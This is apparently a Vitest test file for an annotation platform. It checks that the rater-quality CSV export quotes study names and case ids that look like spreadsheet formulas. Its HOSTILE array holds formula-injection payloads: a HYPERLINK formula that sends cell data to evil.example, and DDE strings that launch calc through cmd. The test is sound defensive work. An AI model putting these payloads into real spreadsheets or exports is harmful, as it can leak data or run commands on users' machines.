/**
 * rater-quality.csv goes through the one formula-safe CSV writer (docs/security.md, "Spreadsheet exports"): a study
 * named and calibration cases identified like spreadsheet formulas reach its case_study and case columns quoted.
 */
import { afterEach, beforeEach, expect, it } from "vitest";
import { autoAssign } from "../../app/annotation/assignments.server";
import {
  EMPTY_VALUES,
  listAnnotatorCases,
  resolveAnnotatorItem,
  saveQualityAnnotation,
  submitAnnotation,
} from "../../app/annotation/annotations.server";
import { QUALITY_OFF } from "../../app/annotation/domain/rater-quality";
import {
  addCalibrationCase,
  raterQualityCsv,
  refreshMyQueue,
  setQualitySettings,
} from "../../app/annotation/rater-quality.server";
import { importCases, requireStudyByName } from "../../app/annotation/studies.server";
import { parsePythonCsv } from "../../app/formats/csv-text";
import type { Db } from "../../app/platform/db.server";
import { freshDb, makeUser } from "../support/db";

let db: Db;
let cleanup: () => void;
beforeEach(() => ({ db, cleanup } = freshDb()));
afterEach(() => cleanup());

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|calc!A0",
  "@SUM(1)",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
];
// A study name is letters, digits, spaces, dot, underscore and hyphen: "-1-1" is what a spreadsheet computes as -2.
const SOURCE = "-1-1";

function notes(ids: string[]): Uint8Array {
  const lines = ids.map((id) =>
    JSON.stringify({
      id,
      age_group: "28-37",
      sex: "F",
      presenting_symptoms: `Text for ${id}.`,
      psychiatric_history: "None.",
      psychiatric_exam: "Calm.",
    }),
  );
  return new TextEncoder().encode(lines.join("\n") + "\n");
}

it("quotes a formula-like source study and case ids in rater-quality.csv", async () => {
  const ann = await makeUser(db, "ann1", ["annotator"]);
  const other = await makeUser(db, "ann2", ["annotator"]);
  expect(importCases(db, { studyName: SOURCE, bytes: notes(HOSTILE), filename: "s.jsonl", actorId: null }).ok).toBe(
    true,
  );
  expect(
    importCases(db, {
      studyName: "Main",
      bytes: notes(Array.from({ length: 20 }, (_, i) => `m${i + 1}`)),
      filename: "m.jsonl",
      actorId: null,
    }).ok,
  ).toBe(true);
  const study = requireStudyByName(db, "Main");
  autoAssign(db, { studyId: study.id, annotatorIds: [ann.id, other.id], seed: 3, actorId: null });
  setQualitySettings(db, { studyId: study.id, settings: { ...QUALITY_OFF, calibrationRate: 0.25 }, actorId: null });
  for (const externalId of HOSTILE)
    addCalibrationCase(db, {
      studyId: study.id,
      actorId: null,
      entry: {
        sourceStudy: SOURCE,
        externalId,
        purpose: "calibration",
        rationale: "",
        reference: { sufficiency: "sufficient", icd10: "F32.1", earliestSection: 2, missingInfo: [], missingOther: "" },
      },
    });
  refreshMyQueue(db, ann.id, 1);
  let t = 2;
  const values = { ...EMPTY_VALUES, sufficiency: "sufficient" as const, icd10: "F32.1", earliestSection: 2 };
  for (const r of listAnnotatorCases(db, ann.id)) {
    const item = resolveAnnotatorItem(db, ann.id, r.key)!;
    const saved =
      item.kind === "assignment"
        ? submitAnnotation(db, { userId: ann.id, caseId: item.caseId, values, version: 0, now: t++ })
        : saveQualityAnnotation(db, { userId: ann.id, id: item.id, values, version: 0, intent: "submit", now: t++ });
    expect(saved.ok).toBe(true);
  }
  const [header, ...rows] = parsePythonCsv(raterQualityCsv(db, study.id));
  const col = (name: string) => header!.indexOf(name);
  expect(rows).toHaveLength(HOSTILE.length);
  for (const row of rows) {
    expect(row[col("kind")]).toBe("calibration");
    expect(row[col("case_study")]).toBe("'" + SOURCE);
    expect(HOSTILE.map((v) => "'" + v)).toContain(row[col("case")]);
  }
});
